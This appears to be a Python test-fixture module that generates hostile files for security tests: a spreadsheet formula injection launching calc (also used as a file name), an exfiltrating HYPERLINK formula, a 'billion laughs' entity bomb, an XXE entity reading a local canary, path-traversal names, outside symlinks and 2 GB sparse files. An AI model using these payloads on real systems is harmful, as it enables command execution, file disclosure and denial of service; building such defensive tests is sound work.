"""Files made to do harm, and what lies beside the workspace; see `hostile_tables`, `hostile_papers`, `hostile_mails`.

The beginning of a name says what must become of the file: `good` is done; `any` may be done or refused; `cut` is
refused, or reads exactly as the whole; all others are refused. Of mails, those others may be read as far as it goes,
when they say what is wrong with them.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

FORMULA, LINK = "=1+cmd|' /C calc'!A1", '=HYPERLINK("http://127.0.0.1/"&A1)'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha ha ha ha ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10)
)
GIGABYTES = 2 << 30


@dataclass(frozen=True)
class Sparse:
    """A file of 2 GB that takes no room: its first bytes, then holes."""

    start: bytes


@dataclass(frozen=True)
class Shown:
    """A link to a file or folder that nobody sent."""

    target: Path


Content = bytes | Sparse | Shown
Files = dict[str, Content]


@dataclass(frozen=True)
class Outside:
    """What lies beside the workspace and is none of its business.

    Attributes:
        folder: Where the canaries are, `canary.<ending>`, and where nothing may land.
        secret: The word that all of them hold.
    """

    folder: Path
    secret: str

    @property
    def climbing(self) -> str:
        """A name that leads there from wherever it is joined to."""
        return "../" * 24 + str(self.folder).lstrip("/") + "/landed"

    def canary(self, ending: str) -> Path:
        return self.folder / f"canary.{ending}"

    @property
    def entity(self) -> str:
        """A document type that shows a canary as `&e;`."""
        return f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{self.canary("txt")}">]>'


def put(folder: Path, files: Mapping[str, Content]) -> None:
    """Lay the files down."""
    folder.mkdir(parents=True)
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        match content:
            case Shown(target):
                path.symlink_to(target)
            case Sparse(start):
                with path.open("wb") as stream:
                    stream.write(start)
                    stream.truncate(GIGABYTES)
            case bytes():
                path.write_bytes(content)


def cuts(name: str, whole: bytes) -> Files:
    """A file cut off at every tenth byte."""
    stem, _, ending = name.rpartition(".")
    return {f"cut-{stem}-{size:05}.{ending}": whole[:size] for size in range(0, len(whole), 10)}


def common(ending: str, outside: Outside) -> Files:
    """What is the same for files of any kind."""
    return {
        f"bad-nothing.{ending}": b"",
        f"bad-nul.{ending}": bytes(5000),
        f"bad-program.{ending}": b"MZ\x90\0" + bytes(range(256)) * 20,
        f"{FORMULA.replace('/', '')}.{ending}": b"\x7fELF\0\0\0" * 9,
        f"bad-link.{ending}": Shown(outside.canary(ending)),
    }


def opened(archive: bytes) -> dict[str, str | bytes]:
    with zipfile.ZipFile(io.BytesIO(archive)) as found:
        return {name: found.read(name) for name in found.namelist()}


def behind_declaration(text: bytes, more: str) -> bytes:
    at = text.index(b"?>") + 2
    return text[:at] + more.encode() + text[at:]
